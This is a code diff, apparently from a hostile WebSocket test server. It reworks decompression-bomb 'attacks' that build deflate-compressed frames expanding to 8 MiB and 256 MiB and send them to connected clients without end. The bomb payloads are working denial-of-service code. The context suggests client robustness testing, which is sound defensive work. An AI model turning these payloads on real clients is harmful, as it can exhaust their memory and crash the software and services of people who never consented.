@@ -199,20 +199,25 @@ def _(sock: socket.socket) -> None:
 # -- Compressed -----------------------------------------------------------------------------
 
 
-def deflate(content: bytes, times: int) -> bytes:
+def make_bomb(size: int) -> bytes:
+    """A text of one letter, which deflate makes a thousandth of."""
     compressor = zlib.compressobj(9, wbits=-15)
-    data = b"".join(compressor.compress(content) for _ in range(times))
-    return (data + compressor.flush(zlib.Z_SYNC_FLUSH))[:-4]
+    data = b"".join(compressor.compress(b"a" * 2**20) for _ in range(size // 2**20))
+    return frame(TEXT, (data + compressor.flush(zlib.Z_SYNC_FLUSH))[:-4], rsv=RSV1)
 
 
-@attack("bombs of a GiB", compressed=True)
+#: Made before the first client comes: the largest takes a second.
+BOMBS = {size: make_bomb(size) for size in (2**23, 2**28)} if "bombs" in "".join(sys.argv) else {}
+
+
+@attack("bombs of 256 MiB", compressed=True)
 def _(sock: socket.socket) -> None:
-    send_for_ever(sock, frame(TEXT, deflate(b"a" * 2**20, 2**10), rsv=RSV1))
+    send_for_ever(sock, BOMBS[2**28])
 
 
 @attack("bombs of 8 MiB", compressed=True)
 def _(sock: socket.socket) -> None:
-    send_for_ever(sock, frame(TEXT, deflate(b"a" * 2**20, 2**3), rsv=RSV1))
+    send_for_ever(sock, BOMBS[2**23])
 
 
 @attack("a bomb in endless fragments", compressed=True)
